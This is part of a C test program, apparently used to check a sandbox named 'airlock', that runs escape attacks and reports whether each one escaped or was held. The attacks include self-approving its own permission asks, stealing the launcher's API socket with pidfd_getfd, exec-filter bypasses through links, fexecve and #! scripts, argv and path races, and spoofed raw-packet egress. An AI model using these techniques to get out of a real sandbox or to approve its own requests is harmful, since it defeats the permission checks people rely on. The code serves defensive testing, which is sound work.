			say("open cgroup.procs via dirfd", -1);
		}
		close(dfd);
	}
	snprintf(p, sizeof(p), "/proc/self/root%s", procs);
	pwn_ret("write /proc/self/root/.../cgroup.procs", write_pid(p));
	print_cgroup("after");
}

static void attack_clone3(const char *cgdir)
{
	struct clone_args args;
	int cg = open(cgdir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	long pid;

	memset(&args, 0, sizeof(args));
	args.flags = CLONE_INTO_CGROUP;
	args.exit_signal = SIGCHLD;
	args.cgroup = (uint64_t)cg;
	pid = syscall(SYS_clone3, &args, sizeof(args));
	if (pid == 0) {
		print_cgroup("clone3 child");
		_exit(0);
	}
	pwn_ret("clone3 CLONE_INTO_CGROUP", (int)pid);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	/* plain clone3 without the flag is refused too (ENOSYS: glibc falls back to clone) */
	memset(&args, 0, sizeof(args));
	args.exit_signal = SIGCHLD;
	pid = syscall(SYS_clone3, &args, sizeof(args));
	if (pid == 0)
		_exit(0);
	say("clone3 plain", (int)pid);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	close(cg);
	print_cgroup("after");
}

/* ---- the API socket ------------------------------------------------------------------ */

static int api_call(const char *sock, const char *req, char *resp, size_t size)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	size_t len = 0;
	int fd;

	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -1;
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sock);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
	    write(fd, req, strlen(req)) != (ssize_t)strlen(req)) {
		close(fd);
		return -1;
	}
	while (len + 1 < size) {
		ssize_t n = read(fd, resp + len, size - 1 - len);

		if (n <= 0)
			break;
		len += (size_t)n;
		if (memchr(resp, '\n', len))
			break;
	}
	resp[len] = '\0';
	close(fd);
	return 0;
}

/* Find the first pending ask's id (waiting up to 3 s for one). */
static long pending_id(const char *sock)
{
	char resp[8192];
	long end = now_ms() + 1000;

	while (now_ms() < end) {
		char *p;

		if (api_call(sock, "{\"op\":\"pending\"}\n", resp, sizeof(resp)) == 0 &&
		    (p = strstr(resp, "\"id\":")))
			return strtol(p + 5, NULL, 10);
		usleep(20 * 1000);
	}
	return -1;
}

static void approve_all(const char *sock, const char *who)
{
	char req[256], resp[8192];
	long id = pending_id(sock);

	if (id < 0) {
		/* pending shows only what the peer may see: guess, ids start at 1 */
		printf("%s: no pending ask seen, trying id 1\n", who);
		id = 1;
	}
	snprintf(req, sizeof(req),
		 "{\"op\":\"approve\",\"id\":%ld,\"scope\":\"session\",\"reason\":\"self\"}\n", id);
	if (api_call(sock, req, resp, sizeof(resp)) < 0) {
		say(who, -1);
		return;
	}
	printf("%s: %s", who, resp);
	if (strstr(resp, "\"ok\":true")) {
		printf("%s: approved its own ask\n", who);
		escaped = true;
	}
}

/* Start DIR/bin/sudo in a child (it waits on its ask), then try to approve it. */
static pid_t spawn_asker(void)
{
	char prog[PATH_MAX + 32];
	pid_t pid;

	snprintf(prog, sizeof(prog), "%s/bin/sudo", D);
	pid = fork();
	if (pid == 0) {
		/* off the session's stdout: `airlock run` ends when the attacker does */
		int null = open("/dev/null", O_RDWR);

		dup2(null, 1);
		dup2(null, 2);
		execl(prog, "sudo", "-n", "true", (char *)NULL);
		_exit(126);
	}
	return pid;
}

static void attack_selfapprove(const char *sock, const char *how, const char *arg)
{
	pid_t asker = spawn_asker();

	if (strcmp(how, "plain") == 0) {
		approve_all(sock, "approve from the session");
	} else if (strcmp(how, "setuid") == 0) {
		/* whatever uid: root inside a session is still inside */
		say("setresuid(0)", setresuid(0, 0, 0));
		approve_all(sock, "approve as root");
	} else if (strcmp(how, "daemon") == 0) {
		/* double fork + setsid: the grandchild is reparented, still in the cgroup */
		int pfd[2];
		char buf[4096];
		ssize_t n;

		if (pipe2(pfd, O_CLOEXEC) < 0)
			return;
		if (fork() == 0) {
			setsid();
			if (fork() == 0) {
				dup2(pfd[1], 1);
				sleep(0);
				approve_all(sock, "approve from a daemonized grandchild");
				printf(escaped ? "ESCAPED\n" : "HELD\n");
				fflush(stdout);
				_exit(0);
			}
			_exit(0);
		}
		close(pfd[1]);
		while ((n = read(pfd[0], buf, sizeof(buf) - 1)) > 0) {
			buf[n] = '\0';
			fputs(buf, stdout);
			if (strstr(buf, "ESCAPED"))
				escaped = true;
		}
		close(pfd[0]);
	} else if (strcmp(how, "escape") == 0) {
		/* leave the session's cgroup first, then approve */
		char procs[PATH_MAX + 32];

		snprintf(procs, sizeof(procs), "%s/cgroup.procs", arg);
		pwn_ret("move to another cgroup", write_pid(procs));
		print_cgroup("approver");
		approve_all(sock, "approve after the move");
	}
	/* the asker is left waiting; the test decides it and checks the marker */
	(void)asker;
}

/* The launcher (airlock run's P) is outside the session, runs as the same user and holds
 * its API connection: take the connection with pidfd_getfd and approve over it. */
static void attack_steal_api(void)
{
	pid_t ppid = getppid();
	int pidfd = (int)syscall(SYS_pidfd_open, ppid, 0), fd;
	pid_t asker = spawn_asker();
	long id;

	(void)asker;
	if (pidfd < 0) {
		say("pidfd_open(launcher)", -1);
		return;
	}
	usleep(300 * 1000); /* let the ask reach the pending table */
	for (fd = 0; fd < 64; fd++) {
		struct sockaddr_un peer;
		socklen_t len = sizeof(peer);
		char req[256], resp[4096];
		ssize_t n;
		int s = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (s < 0) {
			if (errno != EBADF) {
				say("pidfd_getfd(launcher)", -1);
				break;
			}
			continue;
		}
		if (getpeername(s, (struct sockaddr *)&peer, &len) < 0 ||
		    peer.sun_family != AF_UNIX || !strstr(peer.sun_path, "api.sock")) {
			close(s);
			continue;
		}
		printf("stole the launcher's API connection (its fd %d)\n", fd);
		for (id = 1; id <= 3; id++) {
			snprintf(req, sizeof(req),
				 "{\"op\":\"approve\",\"id\":%ld,\"reason\":\"stolen\"}\n", id);
			if (write(s, req, strlen(req)) != (ssize_t)strlen(req))
				break;
			n = read(s, resp, sizeof(resp) - 1);
			if (n <= 0)
				break;
			resp[n] = '\0';
			printf("approve %ld over the stolen connection: %s", id, resp);
			if (strstr(resp, "\"ok\":true")) {
				printf("approved its own ask\n");
				escaped = true;
			}
		}
		close(s);
	}
	close(pidfd);
}

/* ---- exec -------------------------------------------------------------------------- */

static void exec_child(const char *step, void (*fn)(const char *), const char *arg)
{
	int status = 0;
	pid_t pid = fork();

	if (pid == 0) {
		fn(arg);
		_exit(126);
	}
	waitpid(pid, &status, 0);
	printf("%s: exit %d\n", step,
	       WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status));
	fflush(stdout);
}

static void ex_path(const char *path)
{
	execl(path, "sudo", "-n", "true", (char *)NULL);
}

static void ex_fexecve(const char *path)
{
	char *argv[] = { "sudo", NULL };
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	fexecve(fd, argv, environ);
}

static void ex_execveat_opath(const char *path)
{
	char *argv[] = { "sudo", NULL };
	int fd = open(path, O_PATH);

	syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
}

static void ex_execveat_dirfd(const char *dir)
{
	char *argv[] = { "sudo", NULL };
	int fd = open(dir, O_RDONLY | O_DIRECTORY);

	syscall(SYS_execveat, fd, "sudo", argv, environ, 0);
}

static void ex_env(const char *bindir)
{
	char path[PATH_MAX + 16];

	snprintf(path, sizeof(path), "PATH=%s", bindir);
	execl("/usr/bin/env", "env", path, "sudo", (char *)NULL);
}

static void ex_shell(const char *bindir)
{
	char cmd[PATH_MAX + 64];

	snprintf(cmd, sizeof(cmd), "PATH=%s; exec sudo -n true", bindir);
	execl("/bin/sh", "sh", "-c", cmd, (char *)NULL);
}

static void ex_relative(const char *bindir)
{
	if (chdir(bindir) == 0)
		execl("./sudo", "sudo", (char *)NULL);
}

static void ex_script(const char *script)
{
	execl(script, "script", (char *)NULL);
}

static void attack_exec(void)
{
	char sudo[PATH_MAX + 32], bindir[PATH_MAX + 32], p[PATH_MAX + 64];

	snprintf(sudo, sizeof(sudo), "%s/bin/sudo", D);
	snprintf(bindir, sizeof(bindir), "%s/bin", D);
	exec_child("direct", ex_path, sudo);
	if (symlink(sudo, "nice") == 0)
		exec_child("symlink named differently", ex_path, "nice");
	snprintf(p, sizeof(p), "%s/nice", W);
	exec_child("symlink absolute", ex_path, p);
	exec_child("relative ./sudo", ex_relative, bindir);
	exec_child("relative ../bin/sudo", ex_path, "../bin/sudo");
	snprintf(p, sizeof(p), "/proc/self/cwd/../bin/sudo");
	exec_child("/proc/self/cwd", ex_path, p);
	exec_child("fexecve", ex_fexecve, sudo);
	{
		int pfd = open(sudo, O_PATH);

		snprintf(p, sizeof(p), "/proc/self/fd/%d", pfd);
		exec_child("/proc/self/fd of an O_PATH fd", ex_path, p);
		close(pfd);
	}
	exec_child("execveat O_PATH AT_EMPTY_PATH", ex_execveat_opath, sudo);
	exec_child("execveat dirfd", ex_execveat_dirfd, bindir);
	exec_child("env sudo", ex_env, bindir);
	exec_child("sh -c exec sudo", ex_shell, bindir);
}

/* #! names an interpreter that the kernel execs itself, without a second execve */
static void attack_exec_script(void)
{
	char line[PATH_MAX + 64];

	snprintf(line, sizeof(line), "#!%s/bin/sudo\n", D);
	put_file("script", line);
	chmod("script", 0755);
	exec_child("#! script", ex_script, "./script");
}

/* a hard link to the forbidden program under another name */
static void attack_exec_hardlink(void)
{
	char sudo[PATH_MAX + 32];

	snprintf(sudo, sizeof(sudo), "%s/bin/sudo", D);
	if (link(sudo, "notsudo") < 0) {
		say("hard link to sudo", -1);
		return;
	}
	say("hard link to sudo", 0);
	exec_child("exec hard link", ex_path, "./notsudo");
}

static char exbuf[PATH_MAX + 32];

static void *exflip(void *arg)
{
	volatile char *c = exbuf + strlen(exbuf) - 1;

	(void)arg;
	for (;;) {
		*c = 'o';
		*c = 'x';
	}
	return NULL;
}

static void ex_race(const char *unused)
{
	pthread_t th;

	(void)unused;
	pthread_create(&th, NULL, exflip, NULL);
	execl(exbuf, "sudx", (char *)NULL);
}

/* The exec path flips between DIR/bin/sudx (allowed) and DIR/bin/sudo while execve waits. */
static void attack_exec_race(const char *marker)
{
	long end = now_ms() + 2000;
	int i;

	snprintf(exbuf, sizeof(exbuf), "%s/bin/sudx", D);
	for (i = 0; i < 150 && now_ms() < end; i++) {
		int status;
		pid_t pid = fork();

		if (pid == 0) {
			ex_race(NULL);
			_exit(126);
		}
		waitpid(pid, &status, 0);
		if (access(marker, F_OK) == 0) {
			printf("exec race: the forbidden program ran on try %d\n", i);
			escaped = true;
			break;
		}
	}
	printf("exec race: %d tries\n", i);
}

static char rmopt[] = "-f";

static void *rmflip(void *arg)
{
	volatile char *c = rmopt + 1;

	(void)arg;
	for (;;) {
		*c = 'r';
		*c = 'f';
	}
	return NULL;
}

/* argv[1] flips between "-f" (allowed) and "-r" (denied) while execve waits: the kernel
 * reads argv again after a CONTINUE. */
static void attack_argv_race(void)
{
	long end = now_ms() + 2000;
	int i;

	if (mkdir("victim", 0755) < 0) {
		say("victim", -1);
		return;
	}
	for (i = 0; i < 150 && now_ms() < end; i++) {
		int status;
		pid_t pid = fork();

		if (pid == 0) {
			pthread_t th;
			int null = open("/dev/null", O_WRONLY);

			dup2(null, 2);
			pthread_create(&th, NULL, rmflip, NULL);
			execl("/bin/rm", "rm", rmopt, "victim", (char *)NULL);
			_exit(126);
		}
		waitpid(pid, &status, 0);
		if (access("victim", F_OK) < 0) {
			printf("argv race: rm -r ran on try %d\n", i);
			escaped = true;
			break;
		}
	}
	printf("argv race: %d tries\n", i);
}

/* `rm -f x x ... x -r victim`: GNU rm takes options anywhere, and the -r sits past the
 * arguments the gate keeps (AL_ARGV_MAX). */
static void attack_rm_truncated(void)
{
	static char *argv[400];
	int i = 0, status = 0;
	pid_t pid;

	if (mkdir("victim", 0755) < 0 || put_file("victim/file", "keep\n") < 0) {
		say("victim", -1);
		return;
	}
	argv[i++] = "rm";
	argv[i++] = "-f";
	while (i < 350)
		argv[i++] = "nonexistent";
	argv[i++] = "-r";
	argv[i++] = "victim";
	argv[i] = NULL;
	pid = fork();
	if (pid == 0) {
		execv("/bin/rm", argv);
		_exit(126);
	}
	waitpid(pid, &status, 0);
	printf("rm with -r at argument %d: exit %d\n", i - 2,
	       WIFEXITED(status) ? WEXITSTATUS(status) : -1);
	if (access("victim", F_OK) < 0) {
		printf("victim deleted\n");
		escaped = true;
	}
}

/* ---- egress ------------------------------------------------------------------------ */

static void attack_egress(const char *ip, int port, const char *unixpath)
{
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	struct sockaddr_in6 s6 = { .sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port) };
	struct sockaddr_in ok = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
	char v6[64], msg[] = "EGRESS";
	struct iovec iov = { .iov_base = msg, .iov_len = sizeof(msg) - 1 };
	struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1 };
	struct mmsghdr mm[2];
	int s;

	inet_pton(AF_INET, ip, &sin.sin_addr);
	inet_pton(AF_INET, "127.0.0.1", &ok.sin_addr);
	snprintf(v6, sizeof(v6), "::ffff:%s", ip);
	inet_pton(AF_INET6, v6, &s6.sin6_addr);

	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	pwn_ret("tcp connect", connect(s, (struct sockaddr *)&sin, sizeof(sin)));
	close(s);
	s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	{
		int r = connect(s, (struct sockaddr *)&sin, sizeof(sin));

		if (r < 0 && errno == EINPROGRESS)
			r = 0;
		pwn_ret("tcp connect non-blocking", r);
	}
	close(s);
	s = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
	pwn_ret("tcp connect ::ffff:v4", connect(s, (struct sockaddr *)&s6, sizeof(s6)));
	close(s);
	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	pwn_ret("tcp sendto MSG_FASTOPEN",
		(int)sendto(s, msg, 6, MSG_FASTOPEN, (struct sockaddr *)&sin, sizeof(sin)));
	close(s);

	s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	pwn_ret("udp sendto", (int)sendto(s, msg, 6, 0, (struct sockaddr *)&sin, sizeof(sin)));
	mh.msg_name = &sin;
	mh.msg_namelen = sizeof(sin);
	pwn_ret("udp sendmsg msg_name", (int)sendmsg(s, &mh, 0));
	memset(mm, 0, sizeof(mm));
	mm[0].msg_hdr = (struct msghdr){
		.msg_name = &ok, .msg_namelen = sizeof(ok), .msg_iov = &iov, .msg_iovlen = 1
	};
	mm[1].msg_hdr = (struct msghdr){
		.msg_name = &sin, .msg_namelen = sizeof(sin), .msg_iov = &iov, .msg_iovlen = 1
	};
	pwn_ret("udp sendmmsg (allowed first, denied second)", sendmmsg(s, mm, 2, 0));
	pwn_ret("udp connect", connect(s, (struct sockaddr *)&sin, sizeof(sin)));
	close(s);
	s = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	pwn_ret("udp6 sendto ::ffff:v4",
		(int)sendto(s, msg, 6, 0, (struct sockaddr *)&s6, sizeof(s6)));
	close(s);

	if (unixpath) {
		struct sockaddr_un un = { .sun_family = AF_UNIX };

		if (symlink(unixpath, "sock") < 0)
			say("symlink to the socket", -1);
		s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		snprintf(un.sun_path, sizeof(un.sun_path), "%s", unixpath);
		pwn_ret("unix connect", connect(s, (struct sockaddr *)&un, sizeof(un)));
		close(s);
		s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		snprintf(un.sun_path, sizeof(un.sun_path), "../sock");
		pwn_ret("unix connect relative", connect(s, (struct sockaddr *)&un, sizeof(un)));
		close(s);
		s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		snprintf(un.sun_path, sizeof(un.sun_path), "sock");
		pwn_ret("unix connect via symlink", connect(s, (struct sockaddr *)&un, sizeof(un)));
		close(s);
		s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
		snprintf(un.sun_path, sizeof(un.sun_path), "/proc/self/cwd/sock");
		pwn_ret("unix connect via /proc/self/cwd",
			connect(s, (struct sockaddr *)&un, sizeof(un)));
		close(s);
	}
}

/* Connect to a unix socket and wait for the server to hang up. */
static void attack_unix_connect(const char *path)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	char c;

	snprintf(un.sun_path, sizeof(un.sun_path), "%s", path);
	if (connect(s, (struct sockaddr *)&un, sizeof(un)) < 0) {
		say("unix connect", -1);
		return;
	}
	say("unix connect", 0);
	while (read(s, &c, 1) > 0)
		;
	close(s);
}

static uint16_t csum(const void *data, size_t len)
{
	const uint16_t *p = data;
	uint32_t sum = 0;

	for (; len > 1; len -= 2)
		sum += *p++;
	if (len)
		sum += *(const uint8_t *)p;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Root: a raw IP_HDRINCL socket sent "to" an allowed address with a header that names the
 * denied one.  The gate decides on the sockaddr; the kernel delivers by the header. */
static void attack_egress_raw(const char *ip, int port)
{
	struct {
		struct iphdr ip;
		struct udphdr udp;
		char data[8];
	} __attribute__((packed)) pkt;
	struct sockaddr_in ok = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	if (s < 0) {
		say("raw socket", -1);
		return;
	}
	memset(&pkt, 0, sizeof(pkt));
	pkt.ip.version = 4;
	pkt.ip.ihl = 5;
	pkt.ip.ttl = 64;
	pkt.ip.protocol = IPPROTO_UDP;
	pkt.ip.tot_len = htons(sizeof(pkt));
	inet_pton(AF_INET, "127.0.0.1", &pkt.ip.saddr);
	inet_pton(AF_INET, ip, &pkt.ip.daddr);
	pkt.ip.check = csum(&pkt.ip, sizeof(pkt.ip));
	pkt.udp.source = htons(40000);
	pkt.udp.dest = htons((uint16_t)port);
	pkt.udp.len = htons(sizeof(pkt.udp) + sizeof(pkt.data));
	memcpy(pkt.data, "RAWEGRES", 8);
	inet_pton(AF_INET, "127.0.0.1", &ok.sin_addr);
	pwn_ret("raw IP_HDRINCL sendto an allowed address",
		(int)sendto(s, &pkt, sizeof(pkt), 0, (struct sockaddr *)&ok, sizeof(ok)));
	close(s);
}

int main(int argc, char **argv)
{
	const char *what;

	if (argc < 3) {
		fprintf(stderr, "usage: escape_attack DIR ATTACK [ARGS...]\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	snprintf(D, sizeof(D), "%s", argv[1]);
	snprintf(T, sizeof(T), "%s/target", D);
	snprintf(U, sizeof(U), "%s/targeu", D);
	snprintf(A, sizeof(A), "%s/absent", D);
	snprintf(W, sizeof(W), "%s/work", D);
	if (chdir(W) < 0) {
		perror("chdir");
		return 2;
	}
	what = argv[2];
	if (strcmp(what, "paths") == 0)
		attack_paths();
	else if (strcmp(what, "names") == 0)
		attack_names();
	else if (strcmp(what, "handle") == 0)
		attack_handle();
	else if (strcmp(what, "mount") == 0)
		attack_mount();
	else if (strcmp(what, "kill-daemon") == 0 && argc > 3)
		attack_kill_daemon((pid_t)atoi(argv[3]));
	else if (strcmp(what, "audit") == 0 && argc > 4)
		attack_audit(argv[3], argv[4]);
	else if (strcmp(what, "chroot") == 0)
		attack_chroot();
	else if (strcmp(what, "uffd") == 0)
		attack_uffd();
	else if (strcmp(what, "fifo") == 0)
		attack_fifo();
	else if (strcmp(what, "race-buf") == 0)
		attack_race_buf();
	else if (strcmp(what, "race-symlink") == 0)
		attack_race_symlink();
	else if (strcmp(what, "find-listener") == 0)
		attack_find_listener();
	else if (strcmp(what, "steal-listener") == 0 && argc > 3)
		attack_steal_listener((pid_t)atoi(argv[3]));
	else if (strcmp(what, "policy-rewrite") == 0 && argc > 4)
		attack_policy_rewrite(argv[3], (pid_t)atoi(argv[4]));
	else if (strcmp(what, "api-flood") == 0 && argc > 3)
		attack_api_flood(argv[3]);
	else if (strcmp(what, "rename-hooks") == 0)
		attack_rename_hooks();
	else if (strcmp(what, "rename-tree") == 0)
		attack_rename_tree();
	else if (strcmp(what, "race-reopen") == 0)
		attack_race_reopen();
	else if (strcmp(what, "ask-swap") == 0)
		attack_ask_swap();
	else if (strcmp(what, "trace-rewrite") == 0)
		attack_trace_rewrite();
	else if (strcmp(what, "x32") == 0)
		attack_x32();
	else if (strcmp(what, "int80") == 0)
		attack_int80();
	else if (strcmp(what, "listener") == 0)
		attack_listener();
	else if (strcmp(what, "uring") == 0)
		attack_uring();
	else if (strcmp(what, "cgroup-move") == 0 && argc > 3)
		attack_cgroup_move(argv[3]);
	else if (strcmp(what, "clone3") == 0 && argc > 3)
		attack_clone3(argv[3]);
	else if (strcmp(what, "selfapprove") == 0 && argc > 4)
		attack_selfapprove(argv[3], argv[4], argc > 5 ? argv[5] : "");
	else if (strcmp(what, "steal-api") == 0)
		attack_steal_api();
	else if (strcmp(what, "argv-race") == 0)
		attack_argv_race();
	else if (strcmp(what, "rm-truncated") == 0)
		attack_rm_truncated();
	else if (strcmp(what, "exec") == 0)
		attack_exec();
	else if (strcmp(what, "exec-script") == 0)
		attack_exec_script();
	else if (strcmp(what, "exec-hardlink") == 0)
		attack_exec_hardlink();
	else if (strcmp(what, "exec-race") == 0 && argc > 3)
		attack_exec_race(argv[3]);
	else if (strcmp(what, "egress") == 0 && argc > 4)
		attack_egress(argv[3], atoi(argv[4]), argc > 5 ? argv[5] : NULL);
	else if (strcmp(what, "unix-connect") == 0 && argc > 3)
		attack_unix_connect(argv[3]);
	else if (strcmp(what, "egress-raw") == 0 && argc > 4)
		attack_egress_raw(argv[3], atoi(argv[4]));
	else {
		fprintf(stderr, "escape_attack: unknown attack '%s'\n", what);
		return 2;
	}
	printf(escaped ? "ESCAPED\n" : "HELD\n");
	return 0;
}
